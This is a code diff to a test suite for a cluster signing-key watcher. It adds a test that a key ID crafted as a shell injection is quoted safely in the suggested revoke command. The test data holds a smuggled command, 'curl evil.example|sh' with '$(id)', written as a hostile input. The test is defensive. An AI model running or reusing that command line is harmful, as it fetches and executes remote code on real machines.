@@ -222,12 +222,28 @@ suite('what somebody should know', () => {
     await watch.look(25)
     assert.match(
       watch.logged.join('\n'),
-      new RegExp(`StrangeKey key ${kid} is public, but the cluster never served it`),
+      new RegExp(`StrangeKey key "${kid}" is public, but the cluster never served it`),
     )
     await watch.look(45)
     watch.sandbox.clock.advance('2 d')
     await watch.look(2)
     assert.equal(watch.published()?.includes(kid), false)
+  })
+
+  test('a public key whose name is a command is one word in the command that revokes it', async (t) => {
+    const watch = await startTestWatch(t)
+    await watch.look()
+    const { publicKey } = await generateSigningKey()
+    const kid = "x; curl evil.example|sh; '$(id)'\n"
+    const object = watch.sandbox.google.store.find('example-cluster', 'openid/v1/jwks')
+    const { keys }: { keys: object[] } = JSON.parse(object?.bytes.toString() ?? '')
+    watch.sandbox.google.store.put('example-cluster', 'openid/v1/jwks', {
+      contentType: 'application/jwk-set+json',
+      body: JSON.stringify({ keys: [...keys, { ...publicKey.export({ format: 'jwk' }), kid, alg: 'RS256' }] }),
+    })
+    await watch.look(25)
+    const line = watch.logged.find((one) => one.includes('StrangeKey')) ?? ''
+    assert.ok(line.includes(`revoke --to TARGET -- 'x; curl evil.example|sh; '\\''$(id)'\\''\n', and see`), line)
   })
 
   test('tokens that carry another issuer than the one that is public', async (t) => {
@@ -290,7 +306,7 @@ suite('whoever may write the ConfigMap', () => {
     const own = sorted(watch.sandbox.cluster.keys.current)
     assert.deepEqual(watch.published(), own)
     assert.deepEqual(reasons(state), ['KeyUnvouched'])
-    assert.match(state.status.alarms[0]?.says ?? '', new RegExp(`^key ${attacker.kid} is remembered, but neither`))
+    assert.match(state.status.alarms[0]?.says ?? '', new RegExp(`^key "${attacker.kid}" is remembered, but neither`))
     forge(watch, { ...watch.remembered(), ...entryOf(await generateSigningKey()) })
     await watch.look(25)
     assert.deepEqual(watch.published(), own)
